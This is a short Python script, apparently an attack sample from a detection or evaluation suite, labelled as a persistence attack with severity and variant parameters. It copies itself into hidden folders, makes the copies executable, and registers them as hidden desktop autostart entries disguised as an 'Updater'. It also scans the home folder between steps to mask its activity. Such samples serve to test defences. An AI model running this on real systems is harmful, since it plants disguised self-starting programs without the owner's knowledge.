"""Copies itself into the temporary home and registers the copies to start with the desktop.

Between entries it reads around in its own folder, so that most windows are quiet.

attack_type: persistence
severity: 0.6
arguments: ENTRIES PAUSE_S
variants: 6 1.0 | 24 0.2 | 3 2.2
"""

import os
import shutil
import sys
import time
from pathlib import Path

entries, pause = int(sys.argv[1]), float(sys.argv[2])
home = Path(os.environ["HOME"])
autostart = home / ".config" / "autostart"
autostart.mkdir(parents=True)
for number in range(entries):
    copy = home / ".local" / "share" / f"updater{number}" / "run.py"
    copy.parent.mkdir(parents=True)
    shutil.copy(__file__, copy)
    copy.chmod(0o755)
    entry = f"[Desktop Entry]\nType=Application\nName=Updater\nExec=python3 {copy}\nHidden=true\n"
    (autostart / f"updater{number}.desktop").write_text(entry)
    for path in home.rglob("*"):
        path.stat()
    time.sleep(pause)
